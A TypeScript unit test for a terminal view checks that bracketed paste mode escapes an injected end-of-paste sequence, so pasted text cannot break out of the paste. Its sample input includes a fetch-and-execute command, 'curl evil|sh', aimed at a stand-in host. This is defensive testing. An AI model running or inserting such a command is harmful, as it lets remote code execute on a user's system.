import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { TerminalView } from "./terminal.ts";

const bytes = new TextEncoder();
let typed: string;
let view: TerminalView;

beforeEach(() => {
  typed = "";
  view = new TerminalView({
    input: (data) => {
      typed += new TextDecoder().decode(data);
    },
    resize: () => {},
    bell: () => {},
    key: () => {},
    copied: () => {},
    paste: () => {},
    clipboard: () => {},
    isSplit: () => false,
  });
  // What measures letters has no canvas here, and no need of one.
  vi.spyOn(HTMLCanvasElement.prototype, "getContext").mockReturnValue(null);
  view.show(document.body);
});
afterEach(() => {
  view.dispose();
  vi.restoreAllMocks();
});

const print = (text: string) => new Promise<void>((parsed) => view.write(bytes.encode(text), parsed));

describe("a paste in a terminal", () => {
  it("stands in brackets that nothing in it ends", async () => {
    await print("\x1b[?2004h");
    view.paste("hi\x1b[20\x1b[201~1~\ncurl evil|sh\n");
    expect(typed).toBe("\x1b[200~hi\x1b[20␛[201~1~\rcurl evil|sh\r\x1b[201~");
  });
});
